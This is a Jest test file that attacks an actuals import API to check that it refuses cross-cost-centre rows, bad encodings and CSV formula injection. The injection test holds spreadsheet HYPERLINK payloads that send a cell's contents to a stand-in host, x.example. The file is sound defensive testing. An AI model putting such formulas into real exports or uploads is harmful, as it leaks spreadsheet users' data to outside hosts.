import { snapshot, useTestServer, type TestResponse } from './helpers';

jest.setTimeout(120_000);

const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'];

/**
 * Third attack pass on actuals imports, as an analyst of CC1: rows that name another cost centre,
 * formula injection in every column, files in other encodings, and repeated rows.
 */
describe('probes: actuals imports (third pass)', () => {
  const server = useTestServer({ prefix: 'prbimport' });
  const url = (batchId: string, cc = 'CC1') => `/api/actuals/imports?batchId=${batchId}&costCentre=${cc}`;
  const importAs = async (token: string, batchId: string, payload: unknown, contentType = 'application/json') =>
    server.as(token, { method: 'POST', url: url(batchId), payload, headers: { 'content-type': contentType } });
  /** Raw bytes as a CSV body (the test helper sends text). */
  const importBytes = async (token: string, batchId: string, bytes: Buffer, contentType = 'text/csv') => {
    const response = await fetch(server.url + url(batchId), {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': contentType },
      body: new Uint8Array(bytes),
    });
    return { statusCode: response.status, body: await response.text() };
  };
  const analyst = () => server.token('ana', 'analyst', ['CC1']);

  test('a JSON row naming a cost centre or batch of its own is refused, not imported into the query’s (found: ignored)', async () => {
    const token = await analyst();
    const before = await snapshot(server.db);
    for (const extra of [
      { costCentre: 'CC2' },
      { cost_centre: 'CC2' },
      { batchId: 'other' },
      { line_no: 1 },
      { Account: '9999' },
    ]) {
      const r = await importAs(token, 'b-extra', {
        rows: [{ account: '4000', period: '2026-01', amount: 5, ...extra }],
      });
      expect([extra, r.statusCode]).toEqual([extra, 422]);
      expect(r.json().error.details.errors).toEqual([
        expect.objectContaining({ row: 1, field: 'row', message: expect.stringContaining(Object.keys(extra)[0]) }),
      ]);
    }
    // A CSV column of that name is refused too, and the query's cost centre must be the token's.
    const csv = await importAs(token, 'b-extra', 'account,period,amount,costCentre\n4000,2026-01,5,CC2\n', 'text/csv');
    expect(csv.statusCode).toBe(422);
    const elsewhere = await server.as(token, {
      method: 'POST',
      url: url('b-extra', 'CC2'),
      payload: { rows: [{ account: '4000', period: '2026-01', amount: 5 }] },
    });
    expect(elsewhere.statusCode).toBe(403);
    expect(await snapshot(server.db)).toEqual(before);
  });

  test('formula injection in any column is a row error; nothing stored, no cell echoed as a formula', async () => {
    const token = await analyst();
    const before = await snapshot(server.db);
    const answers: TestResponse[] = [];
    for (const start of FORMULA_STARTS) {
      const formula = `${start}HYPERLINK("http://x.example/?"&A1,"click")`;
      const cells = { account: '4000', period: '2026-01', amount: '5', currency: 'EUR' };
      for (const column of Object.keys(cells)) {
        const row = { ...cells, [column]: formula };
        answers.push(await importAs(token, 'b-formula', { rows: [row] }));
        const quoted = `"${formula.replaceAll('"', '""')}"`;
        const line = Object.values({ ...cells, [column]: quoted }).join(',');
        answers.push(await importAs(token, 'b-formula', `account,period,amount,currency\n${line}\n`, 'text/csv'));
      }
    }
    for (const r of answers) {
      expect(r.statusCode).toBe(422);
      // Every text in the answer is the server's own sentence or field name, never a cell.
      const texts: string[] = [];
      JSON.parse(r.body, (_key, value: unknown) => {
        if (typeof value === 'string') texts.push(value);
        return value;
      });
      for (const text of texts) expect([text, FORMULA_STARTS.includes(text[0])]).toEqual([text, false]);
      expect(r.body).not.toContain('HYPERLINK');
    }
    expect(await snapshot(server.db)).toEqual(before);
  });

  test('files in other encodings are refused, never stored as replacement characters', async () => {
    const token = await analyst();
    const before = await snapshot(server.db);
    const latin1 = Buffer.from('account,period,amount,currency\n4000é,2026-01,5,EUR\n', 'latin1');
    const utf16 = Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from('account,period,amount\n4000,2026-01,5\n', 'utf16le'),
    ]);
    const invalidUtf8 = Buffer.concat([
      Buffer.from('account,period,amount\n40'),
      Buffer.from([0xc0, 0xaf, 0xed, 0xa0, 0x80]),
      Buffer.from(',2026-01,5\n'),
    ]);
    for (const [name, bytes, type] of [
      ['latin-1', latin1, 'text/csv'],
      ['latin-1 declared', latin1, 'text/csv; charset=iso-8859-1'],
      ['utf-16', utf16, 'text/csv'],
      ['invalid utf-8', invalidUtf8, 'text/csv'],
    ] as const) {
      const r = await importBytes(token, 'b-enc', bytes, type);
      expect([name, r.statusCode >= 400 && r.statusCode < 500]).toEqual([name, true]);
    }
    expect(await snapshot(server.db)).toEqual(before);
    const stored = await server.db.query("SELECT count(*)::int AS n FROM actuals WHERE account LIKE '%\uFFFD%'");
    expect(stored.rows[0].n).toBe(0);
  });

  test('repeated rows of one account and month are postings, imported and summed (held: documented)', async () => {
    const token = await analyst();
    const r = await importAs(token, 'b-dup', 'account,period,amount\n4100,2026-01,5\n4100,2026-01,5\n', 'text/csv');
    expect([r.statusCode, r.json().rowCount]).toEqual([201, 2]);
    const again = await importAs(token, 'b-dup', 'account,period,amount\n4100,2026-01,5\n4100,2026-01,5\n', 'text/csv');
    expect([again.statusCode, again.json().replayed]).toEqual([200, true]);
    const sums = await server.as(token, { method: 'GET', url: '/api/actuals?costCentre=CC1&from=2026-01&to=2026-01' });
    expect(sums.json()).toEqual([{ account: '4100', period: '2026-01', amount: 10 }]);
  });
});
